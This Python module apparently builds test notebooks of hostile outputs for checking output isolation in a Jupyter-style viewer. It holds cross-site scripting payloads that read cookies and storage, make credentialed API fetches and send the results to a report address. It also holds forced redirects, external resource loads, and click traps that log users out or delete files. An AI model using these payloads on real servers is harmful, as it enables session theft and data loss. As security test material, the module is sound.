"""Outputs that try what no output of another person may do, and notebooks of them."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

TRIES = """
(async () => {
  const tried = {
    cookie: () => document.cookie,
    storage: () => String(localStorage.length),
    page: () => parent.document.title,
    top: () => { top.location.href = '/login?hostile'; },
    api: async () => (await fetch(API, {credentials: 'include'})).text(),
    popup: () => { if (!window.open('/login?hostile')) throw Error('none'); }
  };
  const found = [];
  for (const [name, attempt] of Object.entries(tried)) {
    try { found.push(name + ' ' + await attempt()); } catch (error) { found.push(name + ' no'); }
  }
  const said = document.createElement('p');
  said.className = 'found';
  said.textContent = found.join(', ');
  document.body.append(said);
  if (REPORT) fetch(REPORT + '?' + encodeURIComponent(found.join(', ')), {mode: 'no-cors'});
})();
"""
NOTHING = "cookie no, storage no, page no, top no, api no, popup no"
"""What an output says that has tried all of it in vain."""


SVG = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>"


def tries(api: str, report: str = "") -> str:
    """A script that says below its output, and to the address `report`, what it could read of this
    page and of `api`."""
    return TRIES.replace("API", json.dumps(api)).replace("REPORT", json.dumps(report))


def in_attribute(script: str) -> str:
    """A script in an attribute between double quotes."""
    return script.replace("&", "&amp;").replace('"', "&quot;")


def scripts(url: str) -> dict[str, dict[str, Any]]:
    """Outputs with a script that reads what it can of the fleet at `url`."""
    return run_scripts(lambda _: tries(f"{url.rstrip('/')}/api/contents/demo"))


def run_scripts(script_of: Callable[[str], str]) -> dict[str, dict[str, Any]]:
    """Outputs with a script, by the way in which it is run; `script_of` makes it for each way."""
    script = {
        name: script_of(name)
        for name in ("script", "image", "svg", "javascript", "isolated", "isolated-type")
    }
    return {
        "script": html(f"<script>{script['script']}</script>"),
        "image": html(f'<img src="data:," onerror="{in_attribute(script["image"])}">'),
        "svg": output(
            {
                "image/svg+xml": f'{SVG}<image href="data:," onerror="'
                f'{in_attribute(script["svg"])}"/></svg>'
            }
        ),
        "javascript": output({"application/javascript": script["javascript"]}),
        "isolated": html(f"<script>{script['isolated']}</script>", isolated=True),
        "isolated-type": html(
            f"<script>{script['isolated-type']}</script>", **{"text/html": {"isolated": True}}
        ),
    }


def loads(url: str) -> dict[str, dict[str, Any]]:
    """Outputs that load something from the site at `url`, without a script."""
    return {
        "img": html(f"<img src='{url}/img'>"),
        "background": html(f"<p style='background-image: url({url}/background)'>text</p>"),
        "style": html(f"<style>p {{ background: url({url}/style) }}</style><p>text</p>"),
        "import": html(f"<style>@import '{url}/import';</style>"),
        "svg-image": output(
            {
                "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'>"
                f"<image href='{url}/svg-image'/></svg>"
            }
        ),
        "video": html(f"<video src='{url}/video' autoplay></video>"),
        "link": html(f"<link rel=stylesheet href='{url}/link'>"),
        "frame": html(f"<iframe src='{url}/frame'></iframe>"),
        "object": html(f"<object data='{url}/object'></object>"),
        "embed": html(f"<embed src='{url}/embed'>"),
        "base": html(f"<base href='{url}/base/'><img src='in-base'>"),
        "font": html(
            f"<style>@font-face {{ font-family: f; src: url({url}/font) }}</style>"
            "<p style='font-family: f'>text</p>"
        ),
        "markdown": output({"text/markdown": f"![picture]({url}/markdown)"}),
        "markdown-html": output({"text/markdown": f"<img src='{url}/markdown-html'>"}),
        "markdown-video": output(
            {"text/markdown": f"<video src='{url}/markdown-video' autoplay muted></video>"}
        ),
        "markdown-audio": output(
            {"text/markdown": f"<audio src='{url}/markdown-audio' preload=auto></audio>"}
        ),
        "latex": output({"text/latex": f"$\\href{{javascript:open('{url}/latex')}}{{x}}$"}),
        "heading": html(f"<h1>heading <img src='{url}/heading'></h1>"),
    }


def leaving(url: str) -> dict[str, dict[str, Any]]:
    """Outputs that try to have the page around them leave for `url`."""
    return {
        "refresh": html(f"<meta http-equiv=refresh content='0; url={url}/refresh'>"),
        "top": html(f"<script>top.location = '{url}/top'</script>"),
        "parent": html(f"<script>parent.location = '{url}/parent'</script>"),
        "own": html(f"<script>location = '{url}/own'</script>"),
        "srcdoc": html(f"<iframe srcdoc='<script>top.location=`{url}/srcdoc`</script>'></iframe>"),
        "data": html(
            "<iframe src='data:text/html,<script>top.location=`"
            + url
            + "/data`</script>'></iframe>"
        ),
        "worker": html("<script>navigator.serviceWorker.register('/files/demo/sw.js')</script>"),
        "message": html("<script>parent.postMessage({fleet: 'frame'}, '*')</script>"),
        "mermaid": output({"text/vnd.mermaid": f'graph TD; a; click a href "{url}/mermaid" _self'}),
    }


def clicked(url: str) -> dict[str, dict[str, Any]]:
    """Outputs with something of class `click`, which does harm when a person clicks it."""
    return {
        "link-top": html(f"<a class=click target=_top href='{url}/link-top'>x</a>"),
        "link-own": html("<a class=click target=_top href='/logout'>x</a>"),
        "link-script": html("<a class=click href='javascript:top.location=1'>x</a>"),
        "link-script-blank": html(
            "<a class=click target=_blank href='javascript:opener.x=1'>x</a>"
        ),
        "form": html(
            f"<form method=post action='{url}/form'><button class=click>x</button></form>"
        ),
        "form-top": html(
            "<form target=_top action='/logout'><button class=click>x</button></form>"
        ),
        "command": html(
            "<button class=click data-commandlinker-command='filebrowser:delete' "
            "data-commandlinker-args='{}'>x</button>"
        ),
        "overlay": html(
            "<div class='click lm-Widget jp-Dialog' style='position: fixed; inset: 0'>x</div>"
        ),
    }


def output(data: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    """A `display_data`, with a text for pages that cannot draw anything else of it."""
    return {
        "output_type": "display_data",
        "data": {**data, "text/plain": "in words"},
        "metadata": metadata,
    }


def html(source: str, **metadata: Any) -> dict[str, Any]:
    return output({"text/html": source}, **metadata)


def notebook_of(
    outputs: dict[str, dict[str, Any]], *others: dict[str, Any], **metadata: Any
) -> dict[str, Any]:
    """A notebook with one output in each cell, whose sources are the names, and `others`."""
    cells = [
        {
            "cell_type": "code",
            "id": name,
            "source": f"# {name}",
            "metadata": {},
            "execution_count": 1,
            "outputs": [shown],
        }
        for name, shown in outputs.items()
    ]
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": metadata,
        "cells": [*cells, *others],
    }
